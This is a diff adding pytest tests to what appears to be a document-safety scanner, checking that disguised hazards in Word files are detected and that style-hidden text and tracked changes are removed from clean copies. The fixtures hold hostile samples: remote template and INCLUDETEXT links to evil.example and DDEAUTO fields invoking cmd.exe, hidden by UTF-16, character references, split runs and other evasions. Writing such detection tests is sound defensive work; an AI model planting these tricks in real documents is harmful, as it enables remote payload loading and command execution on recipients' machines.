@@ -10,7 +10,8 @@ import pytest
 
 from formengine.content_type import DOCX, PDF
 from formengine.documents.document_safety import HAZARDS, Findings, look_at, sandboxed_task
-from tests.documents.conftest import changed, word
+from formengine.documents.word_versions.clean_copy import clean_copy
+from tests.documents.conftest import changed, word, words_of
 
 RELS = "word/_rels/document.xml.rels"
 OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
@@ -43,6 +44,68 @@ def packed(objects: bytes) -> bytes:
     return pdf(head % len(stream) + stream + b"\nendstream")
 
 
+def in_text(xml: str, utf_16: bool = False) -> bytes:
+    """A document with a paragraph of this XML, before anything else in its text."""
+
+    def edit(old: bytes) -> bytes:
+        text = old.decode().replace("<w:body>", f"<w:body><w:p>{xml}</w:p>", 1)
+        return text.replace("UTF-8", "UTF-16").encode("utf-16") if utf_16 else text.encode()
+
+    return changed(word("A contract."), {"word/document.xml": edit})
+
+
+def field_in_runs(*pieces: str) -> str:
+    """A complex field whose instruction is in several runs."""
+    marks = {kind: f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end")}
+    return marks["begin"] + "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces) + marks["end"]
+
+
+def in_utf_16(kind: str, target: str) -> bytes:
+    """A relation of the document, in a part that is in UTF-16 as Office files may be."""
+    edit = {RELS: lambda old: old.decode().replace("UTF-8", "UTF-16").encode("utf-16")}
+    return changed(related(kind, target), edit)
+
+
+def with_style(xml: str, properties: str) -> bytes:
+    """A document with a paragraph of this XML, and a character style `Quiet` with these properties."""
+    style = f'<w:style w:type="character" w:styleId="Quiet"><w:name w:val="q"/><w:rPr>{properties}</w:rPr></w:style>'
+    based = '<w:style w:type="character" w:styleId="Still"><w:name w:val="s"/><w:basedOn w:val="Quiet"/></w:style>'
+    end = b"</w:styles>"
+    return changed(in_text(xml), {"word/styles.xml": lambda old: old.replace(end, (style + based).encode() + end)})
+
+
+EVIL = "http://evil.example/t.dotm"
+DISGUISED = {
+    "template by references": related("attachedTemplate", "&#104;ttp://evil.example/t.dotm"),
+    "template behind a bracket": changed(
+        related("attachedTemplate", EVIL), {RELS: lambda old: old.replace(b'Id="rIdX"', b"Id='a>b'")}
+    ),
+    "template in UTF-16": in_utf_16("attachedTemplate", EVIL),
+    "field in small letters": with_field("includepicture http://evil.example/p.png"),
+    "field with a comment": in_text(field_in_runs("INCLUDE<!-- -->TEXT http://evil.example/p")),
+    "field as characters": in_text(field_in_runs("<![CDATA[DDEAUTO c:\\cmd.exe]]>")),
+    "field by references": in_text(field_in_runs("&#68;DEAUTO c:\\cmd.exe")),
+    "field in runs": in_text(field_in_runs(" Includ", "eText http://evil.example/p")),
+    "field in UTF-16": in_text(field_in_runs("DDEAUTO c:\\cmd.exe"), utf_16=True),
+    "field by another prefix": in_text(
+        '<x:r xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
+        '<x:fldSimple x:instr="DDEAUTO c:\\cmd.exe"/></x:r>'
+    ),
+    "damaged text": changed(word("A."), {"word/document.xml": lambda old: old[:-20]}),
+    "damaged for want of a text": changed(word("A."), {"word/document.xml": b"<x/>"}),
+}
+INSERTED = '<w:ins w:id="1" w:author="A"><w:r><w:t>not</w:t></w:r></w:ins>'
+HIDDEN_BY = '<w:r><w:rPr><w:rStyle w:val="{}"/>{}</w:rPr><w:t>Secret.</w:t></w:r>'
+REMARKS = {
+    "in UTF-16": in_text(INSERTED, utf_16=True),
+    "by another prefix": in_text(
+        INSERTED.replace("w:", "x:").replace(
+            "<x:ins", '<x:ins xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+        )
+    ),
+    "hidden by a style": with_style(HIDDEN_BY.format("Quiet", ""), "<w:vanish/>"),
+    "hidden by the style of a style": with_style(HIDDEN_BY.format("Still", ""), "<w:vanish/>"),
+}
 WORD = {
     "macros": changed(word("A."), {"word/vbaProject.bin": b"x"}),
     "template": related("attachedTemplate", "https://evil.example/t.dotm"),
@@ -71,6 +134,28 @@ PDFS = {
 def test_what_a_word_document_carries_is_found(name: str) -> None:
     """S2, T31: by what it holds, whatever its name."""
     assert sandboxed_task({"type": DOCX}, WORD[name]).decode().split()[0] == name.split()[0]
+
+
+@pytest.mark.parametrize("name", DISGUISED)
+def test_nothing_is_hidden_by_the_way_it_is_written(name: str) -> None:
+    """S2, T31: what Word reads in any spelling of XML is found in it; what it cannot read is damaged."""
+    assert sandboxed_task({"type": DOCX}, DISGUISED[name]).decode().split()[0] == name.split()[0]
+
+
+@pytest.mark.parametrize("name", REMARKS)
+def test_remarks_are_counted_as_word_reads_them(name: str) -> None:
+    """S3: however they are written, and text that a style hides; a clean copy holds them no longer."""
+    assert sandboxed_task({"type": DOCX}, REMARKS[name]) == b"none 1"
+    cleaned, _taken = clean_copy(REMARKS[name])
+    assert sandboxed_task({"type": DOCX}, cleaned) == b"none 0"
+    assert "Secret." not in words_of(cleaned)
+
+
+def test_text_that_is_shown_in_spite_of_its_style_stays() -> None:
+    """S3: it is no remark, and a clean copy keeps it."""
+    shown = with_style(HIDDEN_BY.format("Quiet", '<w:vanish w:val="0"/>'), "<w:vanish/>")
+    assert sandboxed_task({"type": DOCX}, shown) == b"none 0"
+    assert "Secret." in words_of(clean_copy(shown)[0])
 
 
 @pytest.mark.parametrize("name", PDFS)
